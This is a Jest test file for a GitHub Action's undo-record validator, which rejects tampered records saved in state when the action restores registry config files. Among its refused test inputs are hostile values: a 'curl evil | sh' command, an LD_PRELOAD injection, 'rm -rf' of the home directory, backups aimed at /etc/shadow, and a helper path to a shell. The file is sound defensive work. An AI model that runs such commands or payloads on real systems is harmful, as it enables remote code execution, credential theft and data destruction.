import { jest } from '@jest/globals'
import * as os from 'node:os'
import * as path from 'node:path'

const state: Record<string, string> = {}
const warnings: string[] = []
jest.unstable_mockModule('@actions/core', () => ({
  saveState: (name: string, value: string) => { state[name] = value },
  getState: (name: string) => state[name] ?? '',
  warning: (text: string) => warnings.push(text),
}))
const { checkRecords, loadUndoRecords, runnerTemp } = await import('../src/replay.js')
const { saveNoRecords, UndoLog } = await import('../src/undo.js')

const TEMP = '/runner/_temp'
const DIR = `${TEMP}/registry-auth-Ab12Cd`
const remove = { kind: 'remove', description: 'remove dir', path: DIR }
const docker = {
  kind: 'docker', description: 'docker', path: '/home/u/.docker/config.json', backup: `${DIR}/config.json.bak`, mode: 0o644,
  hosts: ['123456789012.dkr.ecr.us-east-1.amazonaws.com', '127.0.0.1:5000'], env: { DOCKER_CONFIG: '/home/u/.docker' },
  written: 'a'.repeat(64), storedInFile: ['127.0.0.1:5000'], helpers: [{ host: '123456789012.dkr.ecr.us-east-1.amazonaws.com', helper: 'ecr-login', backup: `${DIR}/helper-0.json` }],
}
const yarnrc = { kind: 'file', description: 'restore', path: '/home/u/.yarnrc.yml', backup: null, entries: { format: 'yaml', keys: [['npmScopes', 'acme']] } }
const settingsXml = { kind: 'file', description: 'restore', path: '/root/.m2/settings.xml', backup: null, madeDirs: ['/root/.m2'], entries: { format: 'xml', keys: [['servers', 'server', 'codeartifact']] } }
const initScript = { kind: 'file', description: 'remove', path: '/home/u/.gradle/init.d/registry-auth.gradle', backup: null, madeDirs: ['/home/u/.gradle', '/home/u/.gradle/init.d'] }

const cargoConfig = { kind: 'file', description: 'restore', path: '/home/u/.cargo/config.toml', backup: `${DIR}/config.toml.bak`, mode: 0o644, entries: { format: 'toml', keys: [['source', 'crates-io', 'replace-with']] } }

const nugetConfig = {
  kind: 'file', description: 'restore', path: '/home/u/.nuget/NuGet/NuGet.Config', backup: null, madeDirs: ['/home/u/.nuget', '/home/u/.nuget/NuGet'],
  entries: { format: 'nuget', keys: [['packageSources', 'add', 'key', 'codeartifact', 'clear']] },
}
const netrc = { kind: 'file', description: 'restore', path: '/home/u/.netrc', backup: `${DIR}/.netrc.bak`, mode: 0o644, entries: { format: 'netrc', keys: [['acme-123456789012.d.codeartifact.us-east-1.amazonaws.com']] } }
const registries = { kind: 'file', description: 'restore', path: '/home/u/.swiftpm/configuration/registries.json', backup: null, entries: { format: 'json', keys: [['registries', '[default]']] } }
const swift = { kind: 'swift', description: 'log swift out', urls: ['https://acme-123456789012.d.codeartifact.us-east-1.amazonaws.com/swift/shared/login'] }

test('what the main step writes passes whole', () => {
  const saved = [remove, docker, yarnrc, settingsXml, initScript, cargoConfig, nugetConfig, netrc, registries, swift, { ...swift, urls: [] }]
  expect(checkRecords(saved, TEMP)).toEqual({ records: saved, refused: [] })
  expect(checkRecords([], TEMP)).toEqual({ records: [], refused: [] })
})

describe('anything else is refused, with its reason; the rest still passes', () => {
  test.each<[string, unknown, string]>([
    ['a command of its own', { kind: 'run', description: 'x', command: 'sh', args: ['-c', 'curl evil | sh'] }, '"run" is not a kind of undo record'],
    ['docker with other environment', { ...docker, env: { LD_PRELOAD: '/tmp/x.so' } }, 'is not DOCKER_CONFIG alone'],
    ['docker with a relative DOCKER_CONFIG', { ...docker, env: { DOCKER_CONFIG: 'docker' } }, 'is not DOCKER_CONFIG alone'],
    ['rm -rf of the home directory', { kind: 'remove', description: 'x', path: '/home/u' }, '"/home/u" is not a private directory of this action in /runner/_temp'],
    ['rm -rf of RUNNER_TEMP itself', { kind: 'remove', description: 'x', path: TEMP }, 'is not a private directory'],
    ['a private directory elsewhere', { kind: 'remove', description: 'x', path: '/tmp/registry-auth-Ab12Cd' }, 'is not a private directory'],
    ['a private directory name with ..', { kind: 'remove', description: 'x', path: `${TEMP}/registry-auth-../..` }, 'is not a private directory'],
    ['a file that is no client config', { ...yarnrc, path: '/etc/passwd' }, '"/etc/passwd" is not a config file this action changes'],
    ['a relative config path', { ...yarnrc, path: '.yarnrc.yml' }, 'is not a config file this action changes'],
    ['a backup outside the private directory', { ...yarnrc, backup: '/etc/shadow' }, '"/etc/shadow" is not a file in this run\'s private directory'],
    ['a backup in a directory nobody records', { ...yarnrc, backup: `${TEMP}/registry-auth-Zz99Zz/x.bak` }, 'is not a file in this run\'s private directory'],
    ['a mode out of range', { ...yarnrc, mode: 0o10000 }, 'is not a file mode'],
    ['a digest that is none', { ...yarnrc, written: 'abc' }, 'is not a SHA-256 digest'],
    ['entries of an unknown format', { ...yarnrc, entries: { format: 'ini', keys: [['a']] } }, 'is not a list of entries'],
    ['directories made for the file that are not above it', { ...nugetConfig, madeDirs: ['/'] }, 'are not directories made for'],
    ['directories made for the file elsewhere', { ...nugetConfig, madeDirs: ['/home/u/.nu'] }, 'are not directories made for'],
    ['relative directories made for the file', { ...nugetConfig, madeDirs: ['.nuget'] }, 'are not directories made for'],
    ['a swift logout of an option', { ...swift, urls: ['--help'] }, 'are not registry URLs'],
    ['a swift logout of a plain-http URL', { ...swift, urls: ['http://example.com/login'] }, 'are not registry URLs'],
    ['a swift logout of a URL with credentials', { ...swift, urls: ['https://u:p@example.com/login'] }, 'are not registry URLs'],
    ['a swift logout of no list', { ...swift, urls: 'https://example.com/login' }, 'are not registry URLs'],
    ['another init script', { ...initScript, path: '/home/u/.gradle/init.d/evil.gradle' }, 'is not a config file this action changes'],
    ['made directories that are not the file\'s', { ...initScript, madeDirs: ['/etc'] }, 'are not directories made for'],
    ['the root as a made directory', { ...initScript, madeDirs: ['/'] }, 'are not directories made for'],
    ['the file itself as a made directory', { ...initScript, madeDirs: [initScript.path] }, 'are not directories made for'],
    ['docker with another file', { ...docker, path: '/home/u/.bashrc' }, 'is not docker\'s config.json'],
    ['docker with a host that is an option', { ...docker, hosts: ['--all'] }, 'are not registry hosts'],
    ['docker with a helper path', { ...docker, helpers: [{ host: docker.hosts[0], helper: '../../bin/sh' }] }, 'is not a credential helper of a logged-in host'],
    ['docker with a helper for another host', { ...docker, helpers: [{ host: 'other.example', helper: 'pass' }] }, 'is not a credential helper of a logged-in host'],
    ['docker with a helper backup elsewhere', { ...docker, helpers: [{ host: docker.hosts[0], helper: 'pass', backup: '/etc/shadow' }] }, 'is not a file in this run\'s private directory'],
    ['docker with storedInFile naming other hosts', { ...docker, storedInFile: ['other.example'] }, 'names other hosts'],
    ['an unknown kind', { kind: 'exec', description: 'x' }, '"exec" is not a kind of undo record'],
    ['no description', { kind: 'remove', path: DIR }, 'a "remove" record has no description'],
    ['not an object', 'rm -rf /', 'a record is not an object'],
  ])('%s', (_label, record, reason) => {
    const { records, refused } = checkRecords([remove, record, yarnrc], TEMP)
    expect(refused).toEqual([expect.stringContaining(reason)])
    expect(records).toEqual([remove, yarnrc])
  })

  test('a list that is no list', () => {
    expect(checkRecords({ kind: 'remove' }, TEMP)).toEqual({ records: [], refused: ['the saved undo list is not a list'] })
  })
})

describe('more that is refused', () => {
  test.each<[string, unknown, string]>([
    ['docker with one host that is an option among good ones', { ...docker, hosts: [docker.hosts[0], '--all'] }, 'are not registry hosts'],
    ['docker with a host with a path', { ...docker, hosts: ['host.example/x'], storedInFile: [], helpers: [] }, 'are not registry hosts'],
    ['docker with storedInFile that is no list', { ...docker, storedInFile: 'host' }, 'names other hosts'],
    ['docker with storedInFile naming one other host among good ones', { ...docker, storedInFile: ['127.0.0.1:5000', 'other.example'] }, 'names other hosts'],
    ['docker with helpers that are no list', { ...docker, helpers: 'pass' }, 'is not a credential helper'],
    ['docker with a helper that is no object', { ...docker, helpers: ['pass'] }, 'is not a credential helper'],
    ['docker with a helper without a name', { ...docker, helpers: [{ host: docker.hosts[0] }] }, 'is not a credential helper'],
    ['docker with a helper name with a newline', { ...docker, helpers: [{ host: docker.hosts[0], helper: 'pass\n' }] }, 'is not a credential helper'],
    ['docker with a helper name with a slash after it', { ...docker, helpers: [{ host: docker.hosts[0], helper: 'pass/../x' }] }, 'is not a credential helper'],
    ['docker with a second helper whose backup is elsewhere', { ...docker, helpers: [docker.helpers[0], { host: docker.hosts[0], helper: 'pass', backup: '/etc/shadow' }] }, 'is not a file in this run'],
    ['docker with a backup elsewhere', { ...docker, backup: '/etc/shadow' }, 'is not a file in this run'],
    ['docker with other environment', { ...docker, env: { DOCKER_CONFIG: '/home/u/.docker', PATH: '/tmp' } }, 'is not DOCKER_CONFIG alone'],
    ['a mode that is negative', { ...yarnrc, mode: -1 }, 'is not a file mode'],
    ['a mode that is not whole', { ...yarnrc, mode: 0.5 }, 'is not a file mode'],
    ['a mode that is text', { ...yarnrc, mode: '644' }, 'is not a file mode'],
    ['a digest with a suffix', { ...yarnrc, written: `${'a'.repeat(64)}\nx` }, 'is not a SHA-256 digest'],
    ['a digest with a prefix', { ...yarnrc, written: `x${'a'.repeat(64)}` }, 'is not a SHA-256 digest'],
    ['a digest that is no text', { ...yarnrc, written: 5 }, 'is not a SHA-256 digest'],
    ['entries without keys', { ...yarnrc, entries: { format: 'yaml' } }, 'is not a list of entries'],
    ['entries with an empty key path', { ...yarnrc, entries: { format: 'yaml', keys: [['a'], []] } }, 'is not a list of entries'],
    ['entries with a key path that is no list', { ...yarnrc, entries: { format: 'yaml', keys: [['a'], 'b'] } }, 'is not a list of entries'],
    ['entries with a key that is no text', { ...yarnrc, entries: { format: 'json', keys: [['a', 1]] } }, 'is not a list of entries'],
    ['entries that are no object', { ...yarnrc, entries: [['a']] }, 'is not a list of entries'],
    ['a private directory name one character short', { kind: 'remove', description: 'x', path: `${TEMP}/registry-auth-Ab12C` }, 'is not a private directory'],
    ['a private directory name with a suffix', { kind: 'remove', description: 'x', path: `${TEMP}/registry-auth-Ab12Cd-x` }, 'is not a private directory'],
    ['a private directory name with a prefix', { kind: 'remove', description: 'x', path: `${TEMP}/x-registry-auth-Ab12Cd` }, 'is not a private directory'],
    ['a relative private directory', { kind: 'remove', description: 'x', path: 'registry-auth-Ab12Cd' }, 'is not a private directory'],
  ])('%s', (_label, record, reason) => {
    const { records, refused } = checkRecords([remove, record, yarnrc], TEMP)
    expect(refused).toEqual([expect.stringContaining(reason)])
    expect(records).toEqual([remove, yarnrc])
  })

  test('a backup counts only in a private directory that a valid remove record names', () => {
    const badRemove = { kind: 'remove', description: 'x', path: '/home/u' }
    const inHome = { ...yarnrc, backup: '/home/u/x.bak' }
    expect(checkRecords([badRemove, inHome], TEMP).refused).toEqual([expect.stringContaining('is not a private directory'), expect.stringContaining('is not a file in this run')])
    const notRemove = { kind: 'file', description: 'x', path: DIR, backup: null }
    expect(checkRecords([notRemove, { ...yarnrc, backup: `${DIR}/x.bak` }], TEMP).refused).toEqual([expect.stringContaining('is not a config file'), expect.stringContaining('is not a file in this run')])
    expect(checkRecords(['text', null, { ...yarnrc, backup: `${DIR}/x.bak` }], TEMP).refused).toHaveLength(3)
  })

  test('good edge values pass: mode 0 and 0o7777, a helper without a backup, no helpers, empty storedInFile', () => {
    const saved = [remove, { ...yarnrc, mode: 0 }, { ...yarnrc, mode: 0o7777 }, { ...docker, helpers: [{ host: docker.hosts[0], helper: 'pass' }] }, { ...docker, helpers: undefined, storedInFile: [] }]
    expect(checkRecords(saved, TEMP)).toEqual({ records: saved, refused: [] })
  })

  test('a long value is cut in the reason', () => {
    const { refused } = checkRecords([{ kind: 'x'.repeat(300), description: 'x' }], TEMP)
    expect(refused).toEqual([`"${'x'.repeat(116)}... is not a kind of undo record`])
    expect(checkRecords([{ kind: 'x'.repeat(118), description: 'x' }], TEMP).refused).toEqual([`"${'x'.repeat(118)}" is not a kind of undo record`])
  })
})

describe('saving and loading', () => {
  beforeEach(() => {
    for (const key of Object.keys(state)) delete state[key]
    warnings.length = 0
  })

  test('UndoLog saves every record as it is added, and again on save(); disabled, it keeps and saves nothing', () => {
    const log = new UndoLog(true)
    log.add(remove as never)
    expect(JSON.parse(state.undo ?? '')).toEqual([remove])
    ;(log.records[0] as { description: string }).description = 'changed'
    log.save()
    expect(JSON.parse(state.undo ?? '')).toEqual([{ ...remove, description: 'changed' }])
    const off = new UndoLog(false)
    off.add(remove as never)
    delete state.undo
    off.save()
    expect(off.records).toEqual([])
    expect(state).toEqual({})
  })

  test('saveNoRecords saves an empty list, which loads as nothing to do', () => {
    saveNoRecords()
    expect(state).toEqual({ undo: '[]' })
    expect(loadUndoRecords({ RUNNER_TEMP: TEMP })).toEqual([])
    expect(warnings).toEqual([])
  })

  test('loading: nothing saved is nothing to do; not JSON and refused records are warnings', () => {
    expect(loadUndoRecords({ RUNNER_TEMP: TEMP })).toEqual([])
    state.undo = '[{'
    expect(loadUndoRecords({ RUNNER_TEMP: TEMP })).toEqual([])
    expect(warnings).toEqual(['The saved undo list is not JSON; nothing is undone'])
    state.undo = JSON.stringify([remove, { kind: 'exec', description: 'x' }, yarnrc])
    expect(loadUndoRecords({ RUNNER_TEMP: TEMP })).toEqual([remove, yarnrc])
    expect(warnings.at(-1)).toBe('Ignored an undo record this action cannot have written: "exec" is not a kind of undo record')
    // The private directory must be in this run's RUNNER_TEMP.
    expect(loadUndoRecords({ RUNNER_TEMP: '/elsewhere' })).toEqual([yarnrc])
  })

  test('runnerTemp: RUNNER_TEMP resolved, else the system temp directory', () => {
    expect(runnerTemp({ RUNNER_TEMP: '/runner/_temp/' })).toBe('/runner/_temp')
    expect(runnerTemp({})).toBe(path.resolve(os.tmpdir()))
    expect(runnerTemp({ RUNNER_TEMP: '' })).toBe(path.resolve(os.tmpdir()))
  })
})
